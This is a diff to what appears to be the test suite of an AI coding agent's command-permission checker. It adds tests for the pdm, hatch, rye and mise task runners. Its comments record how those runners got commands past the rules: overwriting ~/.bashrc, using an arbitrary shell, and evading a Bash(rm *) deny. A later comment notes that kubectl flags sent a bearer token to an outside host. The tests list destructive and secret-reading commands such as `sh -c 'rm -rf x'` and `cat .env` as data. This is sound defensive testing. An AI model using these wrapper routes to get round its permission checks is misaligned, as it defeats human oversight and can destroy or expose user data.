@@ -4319,6 +4319,49 @@ describe('3. the command a runner runs is analysed as the runner call', () => {
   allowedByDefault(['uv run pytest -x tests', 'uv run -m pytest -q', 'poetry run pytest', 'bundle exec rake test', 'uv run --frozen --with requests python x.py', 'pipenv run pytest', 'uv run a.py', 'poetry run -q pytest'], RUN);
 });
 
+// pdm run, hatch run, rye run and mise run were not modelled (round 14 left open): pdm 2.2.1 under
+// bash 5.2 wrote ~/.bashrc for `pdm run cp a ~/.bashrc` and ran another project's script for
+// `pdm run -p ../other hi`; mise 2026.9.15 ran another project's task for `mise run -C ../other
+// build` and a program of the caller's choosing for `mise run -s ./evil build`. Each was allowed
+// by the runner's rule, and `pdm run sh -c 'rm x'` passed Bash(rm *) in bypassPermissions. The
+// command after the runner's own options (their `--help`, hatch's run command: matrix selectors and
+// `ENV:`) is analysed as uv's is; options that load another project, interpreter or shell ask.
+describe('3. pdm, hatch, rye and mise run what their options and command say', () => {
+  const RUN: Extra = { allow: ['Bash(pdm run:*)', 'Bash(hatch run:*)', 'Bash(rye run:*)', 'Bash(mise run:*)'] };
+  neverAllowed([
+    'pdm run cp a <H>/.bashrc',
+    'pdm run -s -v tee <H>/.bashrc',
+    'pdm run -- sort -o <H>/x a',
+    'hatch run cp a <H>/.bashrc',
+    'hatch run test:cp a <H>/.bashrc',
+    'hatch run +py=3.11 -version test:cp a <H>/.bashrc',
+    'hatch run -- cp a <H>/.bashrc',
+    'rye run cp a <H>/.bashrc',
+    'hatch run pytest --basetemp=<H>',
+    'pdm run python -c 1',
+    'hatch run ruby -e 1',
+    'pdm run -p <T>/data hi',
+    'pdm run --project=<T>/data hi',
+    'pdm run -g hi',
+    'pdm run --venv other hi',
+    'pdm run --unknown hi',
+    'rye run --pyproject <T>/data/pyproject.toml hi',
+    'mise run -C <T>/data build',
+    'mise run --cd=<T>/data build',
+    'mise run -s <T>/evil build',
+    'mise run --shell <T>/evil build',
+    'mise run -t node@20 build',
+    'mise run -E evil build',
+    'mise run --unknown build',
+  ], RUN);
+  deniedEverywhere([
+    ["pdm run sh -c 'rm -rf x'", 'Bash(rm *)'],
+    ["hatch run test:bash -c 'rm -rf x'", 'Bash(rm *)'],
+    ["rye run sh -c 'cat .env'", 'Read(**/.env)'],
+  ], RUN);
+  allowedByDefault(['pdm run pytest -x', 'pdm run -s -v pytest', 'pdm run -k post_run test', 'pdm run a.py', 'hatch run test:cov', 'hatch run +py=3.11 test', 'hatch run pytest', 'rye run pytest', 'rye run -l', 'mise run build', 'mise run -j 4 -f build ::: lint', 'mise run -n --output=prefix test'], RUN);
+});
+
 // kubectl's global flags after the verb (round 13 review A8, left open for all but --kubeconfig):
 // `kubectl get pods --server=https://host --insecure-skip-tls-verify` sent the kubeconfig's bearer
 // token to host (kubectl 1.32 under bash 5.2, a TLS listener logging `Authorization: Bearer
